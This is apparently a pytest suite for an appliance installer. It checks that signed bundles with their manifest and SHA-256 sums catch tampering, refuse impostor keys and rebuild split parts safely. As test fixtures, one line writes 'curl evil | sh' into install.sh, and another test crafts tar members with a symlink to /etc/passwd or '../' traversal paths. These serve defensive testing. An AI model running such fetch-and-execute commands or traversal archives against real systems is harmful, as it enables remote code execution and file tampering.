"""The bundle's manifest, signature and verification: every kind of
tampering is caught and names the file; split parts join back to a bundle that verifies."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

import installer
from installer.bundle import (
    MANIFEST,
    PARTS_LIST,
    PUBLIC_KEY,
    SIGNATURE,
    BundleError,
    fingerprint,
    join,
    load_or_create_key,
    seal,
    split,
    verification_commands,
    verify,
)
from tests.support.appliances import APPLIANCE

INSTALL_SH = Path(installer.__file__).with_name("install.sh")
# The engine this host needs (the rule of appliance.engine_build), and the other one.
HOST_ENGINE = "cuda" if Path("/dev/nvidiactl").exists() else "cpu"
OTHER_ENGINE = "cpu" if HOST_ENGINE == "cuda" else "cuda"
BUNDLE_CHECK = Path(installer.__file__).with_name("bundle_files.py")


@pytest.fixture
def bundle(tmp_path: Path) -> tuple[Path, Ed25519PrivateKey]:
    root = tmp_path / "bundle"
    for name, data in {"wheels/appliance-0.1-py3-none-any.whl": b"wheel bytes" * 100,
                       "wheels/httpx-0.28-py3-none-any.whl": b"another wheel",
                       "keycloak/keycloak-quarkus-dist-26.7.3.zip": b"PK" + bytes(5000),
                       "model/SmolLM2-135M-Instruct/config.json": b"{}",
                       "install.sh": INSTALL_SH.read_bytes(), "bundle-check.py": BUNDLE_CHECK.read_bytes()}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    key = load_or_create_key(tmp_path / "keys" / "bundle.pem")
    seal(root, key, description={"platform": "linux_x86_64", "python": "3.11", "engine": HOST_ENGINE})
    return root, key


def test_a_sealed_bundle_verifies_and_lists_every_file(bundle: tuple[Path, Ed25519PrivateKey]) -> None:
    root, key = bundle
    checked = verify(root, key.public_key())
    assert checked.files == 6 and checked.fingerprint == fingerprint(key.public_key())
    manifest = json.loads((root / MANIFEST).read_text())
    assert manifest["platform"] == "linux_x86_64" and set(manifest["files"]) == {
        "wheels/appliance-0.1-py3-none-any.whl", "wheels/httpx-0.28-py3-none-any.whl",
        "keycloak/keycloak-quarkus-dist-26.7.3.zip", "model/SmolLM2-135M-Instruct/config.json", "install.sh",
        "bundle-check.py"}


def test_the_signing_key_is_kept_0600_and_reused(tmp_path: Path) -> None:
    path = tmp_path / "k.pem"
    first = load_or_create_key(path)
    assert path.stat().st_mode & 0o777 == 0o600
    assert fingerprint(load_or_create_key(path).public_key()) == fingerprint(first.public_key())


def flip_a_byte(root: Path) -> str:
    path = root / "wheels/httpx-0.28-py3-none-any.whl"
    data = bytearray(path.read_bytes())
    data[3] ^= 1
    path.write_bytes(bytes(data))
    return f"{path}: SHA-256 differs from the manifest"


def remove_a_file(root: Path) -> str:
    (root / "install.sh").unlink()
    return f"{root / 'install.sh'}: missing"


def add_a_file(root: Path) -> str:
    (root / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"x")
    return f"{root / 'wheels' / 'evil-1.0-py3-none-any.whl'}: not in the manifest"


def link_a_directory(root: Path) -> str:
    elsewhere = root.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "evil-1.0-py3-none-any.whl").write_bytes(b"x")
    (root / "wheels" / "more").symlink_to(elsewhere, target_is_directory=True)
    return f"{root / 'wheels' / 'more'}: not a regular file or directory"


def edit_the_manifest(root: Path) -> str:
    manifest = json.loads((root / MANIFEST).read_text())
    manifest["files"]["install.sh"]["sha256"] = "0" * 64
    (root / MANIFEST).write_text(json.dumps(manifest, indent=1, sort_keys=True))
    return f"{root / MANIFEST}: the signature does not match"


def truncate_a_file(root: Path) -> str:
    path = root / "keycloak/keycloak-quarkus-dist-26.7.3.zip"
    path.write_bytes(path.read_bytes()[:-1])
    return f"{path}: 5,001 bytes, the manifest says 5,002"


@pytest.mark.parametrize("tamper", [flip_a_byte, remove_a_file, add_a_file, link_a_directory, edit_the_manifest,
                                    truncate_a_file])
def test_tampering_is_caught_and_named(bundle: tuple[Path, Ed25519PrivateKey], tamper) -> None:
    root, key = bundle
    expected = tamper(root)
    with pytest.raises(BundleError) as caught:
        verify(root, key.public_key())
    assert caught.value.message.startswith(expected), caught.value.message


def test_a_signature_by_another_key_is_refused(bundle: tuple[Path, Ed25519PrivateKey], tmp_path: Path) -> None:
    root, key = bundle
    impostor = Ed25519PrivateKey.generate()
    seal(root, impostor, description={})  # re-signed with another key; its public key travels along
    assert verify(root).fingerprint == fingerprint(impostor.public_key())  # self-consistent...
    with pytest.raises(BundleError, match="does not match the trusted key"):
        verify(root, key.public_key())  # ...but not by the key the operator trusts


def test_missing_signature_is_refused(bundle: tuple[Path, Ed25519PrivateKey]) -> None:
    root, key = bundle
    (root / SIGNATURE).unlink()
    with pytest.raises(BundleError, match=f"{root / SIGNATURE}: missing"):
        verify(root, key.public_key())


def test_parts_join_back_and_a_damaged_part_is_named(bundle: tuple[Path, Ed25519PrivateKey], tmp_path: Path) -> None:
    root, key = bundle
    parts = split(root, tmp_path / "media", part_bytes=4096)
    assert len(parts) > 2 and all(part.stat().st_size <= 4096 for part in parts)
    joined = join(tmp_path / "media", tmp_path / "target")
    assert verify(joined, key.public_key()).files == 6
    data = bytearray(parts[1].read_bytes())
    data[0] ^= 1
    parts[1].write_bytes(bytes(data))
    with pytest.raises(BundleError, match=rf"{parts[1].name}: SHA-256 differs from .*{PARTS_LIST}:2"):
        join(tmp_path / "media", tmp_path / "again")


@pytest.mark.integration
def test_cli_verify_names_the_fault_and_exits_non_zero(bundle: tuple[Path, Ed25519PrivateKey],
                                                       tmp_path: Path) -> None:
    root, key = bundle
    public = tmp_path / "trusted.pub"
    public.write_bytes((root / PUBLIC_KEY).read_bytes())
    good = subprocess.run([APPLIANCE, "bundle", "verify", str(root), "--key", str(public)], capture_output=True,
                          text=True, env={**os.environ, "COLUMNS": "300"})
    assert good.returncode == 0 and "6 files" in good.stdout and fingerprint(key.public_key()) in good.stdout
    expected = flip_a_byte(root)
    bad = subprocess.run([APPLIANCE, "bundle", "verify", str(root), "--key", str(public)], capture_output=True,
                         text=True, env={**os.environ, "COLUMNS": "300"})
    assert bad.returncode == 1 and expected in bad.stderr


def install(root: Path, prefix: Path, key: Path | None = None, *trust: str) -> subprocess.CompletedProcess[str]:
    trust = trust or (("--key", str(key)) if key else ("--trust-bundled-key",))
    return subprocess.run(["bash", str(INSTALL_SH), str(root), "--prefix", str(prefix), "--home", str(prefix / "state"),
                           *trust], capture_output=True, text=True, timeout=120)


@pytest.mark.integration
@pytest.mark.parametrize("tamper", [flip_a_byte, remove_a_file, add_a_file, link_a_directory, edit_the_manifest,
                                    truncate_a_file])
def test_install_sh_refuses_a_tampered_bundle_before_touching_anything(
        bundle: tuple[Path, Ed25519PrivateKey], tmp_path: Path, tamper) -> None:
    root, _ = bundle
    expected = tamper(root)
    refused = install(root, tmp_path / "prefix")
    assert refused.returncode == 1 and expected in refused.stderr, refused.stdout + refused.stderr
    assert not (tmp_path / "prefix").exists()


@pytest.mark.integration
def test_install_sh_checks_the_signature_against_the_trusted_key(bundle: tuple[Path, Ed25519PrivateKey],
                                                                 tmp_path: Path) -> None:
    root, key = bundle
    trusted = tmp_path / "trusted.pub"
    trusted.write_bytes((root / PUBLIC_KEY).read_bytes())
    seal(root, Ed25519PrivateKey.generate(), description={})  # re-signed by an impostor, its key bundled
    refused = install(root, tmp_path / "prefix", trusted)
    assert refused.returncode == 1 and "manifest.json: the signature does not match the trusted key" in refused.stderr
    assert fingerprint(key.public_key()) in refused.stderr and not (tmp_path / "prefix").exists()


@pytest.mark.integration
def test_install_sh_will_not_trust_the_bundled_key_unless_told_to(bundle: tuple[Path, Ed25519PrivateKey],
                                                                  tmp_path: Path) -> None:
    """Regression: with no key given, install.sh trusted whatever key the bundle carried."""
    root, key = bundle
    bare = subprocess.run(["bash", str(INSTALL_SH), str(root), "--prefix", str(tmp_path / "prefix")],
                          capture_output=True, text=True, timeout=60)
    assert bare.returncode == 1 and "say which key to trust" in bare.stderr
    impostor = fingerprint(Ed25519PrivateKey.generate().public_key())
    wrong = install(root, tmp_path / "prefix", None, "--fingerprint", impostor)
    assert wrong.returncode == 1 and f"not the {impostor} you gave" in wrong.stderr
    right = install(root, tmp_path / "prefix", None, "--fingerprint", fingerprint(key.public_key()))
    assert f"signed by the bundled key: {fingerprint(key.public_key())}" in right.stdout  # (then fails: no wheels)
    assert not (tmp_path / "prefix" / "venv").exists() or right.returncode != 0
    assert not list(Path(os.environ.get("TMPDIR", "/var/tmp")).glob("appliance-bundle.*")), "private copy removed"


@pytest.mark.integration
def test_install_sh_refuses_a_bundle_whose_engine_does_not_fit_the_host(bundle: tuple[Path, Ed25519PrivateKey],
                                                                        tmp_path: Path) -> None:
    """A CUDA bundle on a host without an NVIDIA driver (or a CPU bundle on a GPU host)
    is refused with the reason, before anything is installed, unless --force-engine."""
    root, key = bundle
    seal(root, key, description={"platform": "linux_x86_64", "python": "3.11", "engine": OTHER_ENGINE})
    refused = install(root, tmp_path / "prefix")
    why = "no NVIDIA driver is loaded (no /dev/nvidiactl)" if HOST_ENGINE == "cpu" else "an NVIDIA driver is loaded"
    assert refused.returncode == 1, refused.stdout + refused.stderr
    assert (f"this bundle carries the {OTHER_ENGINE} engine, but {why}: this host needs the {HOST_ENGINE} engine. "
            f"Build a bundle with `appliance bundle build --engine {HOST_ENGINE}`") in refused.stderr
    assert not (tmp_path / "prefix").exists()
    forced = install(root, tmp_path / "prefix", None, "--trust-bundled-key", "--force-engine")
    assert f"the {OTHER_ENGINE} engine, although {why} (--force-engine)" in forced.stdout, forced.stderr
    seal(root, key, description={"platform": "linux_x86_64", "python": "3.11"})
    unstated = install(root, tmp_path / "other")
    assert unstated.returncode == 1 and "manifest.json: states no engine (cpu or cuda)" in unstated.stderr


@pytest.mark.integration
def test_the_printed_commands_verify_a_bundle_with_openssl_and_sha256sum(bundle: tuple[Path, Ed25519PrivateKey],
                                                                         tmp_path: Path) -> None:
    """What `bundle build` prints checks the bundle (install.sh included) before any of
    its scripts runs."""
    root, key = bundle
    (tmp_path / "builder.pub").write_bytes((root / PUBLIC_KEY).read_bytes())

    def run_all() -> list[subprocess.CompletedProcess[str]]:
        return [subprocess.run(["bash", "-c", f"set -o pipefail; {command}"], cwd=tmp_path, capture_output=True,
                               text=True) for command in verification_commands(root, fingerprint(key.public_key()))]

    key_check, signature, sums = run_all()
    assert key_check.stdout.split()[0] == fingerprint(key.public_key()).replace(":", "")
    assert signature.returncode == 0 and "Signature Verified Successfully" in signature.stdout
    assert sums.returncode == 0 and sums.stdout == ""
    (root / "install.sh").write_text("curl evil | sh\n")
    assert run_all()[2].returncode != 0, "a changed install.sh is caught"
    (root / "SHA256SUMS").write_text("0" * 64 + "  install.sh\n")
    assert run_all()[1].returncode != 0, "a changed checksum list is caught by its signature"


@pytest.mark.parametrize("member", ["link", "dotdot", "absolute"])
def test_join_refuses_archives_with_links_or_paths_outside(tmp_path: Path, member: str) -> None:
    """Join checks every member itself rather than rely on tarfile's filters."""
    import hashlib
    import io
    import tarfile

    media = tmp_path / "media"
    media.mkdir()
    archive = media / "b.tar.part000"
    with tarfile.open(archive, "w") as tar:
        ok = tarfile.TarInfo("b/install.sh")
        ok.size = 3
        tar.addfile(ok, io.BytesIO(b"abc"))
        bad = tarfile.TarInfo({"link": "b/evil", "dotdot": "b/../../evil", "absolute": "/b/evil"}[member])
        if member == "link":
            bad.type, bad.linkname = tarfile.SYMTYPE, "/etc/passwd"
        else:
            bad.size = 3
        tar.addfile(bad, io.BytesIO(b"abc") if member != "link" else None)
    (media / PARTS_LIST).write_text(f"{hashlib.sha256(archive.read_bytes()).hexdigest()}  {archive.name}\n")
    with pytest.raises(BundleError):
        join(media, tmp_path / "target")
    assert not (tmp_path / "evil").exists() and not (tmp_path / "target" / "b" / "evil").exists()
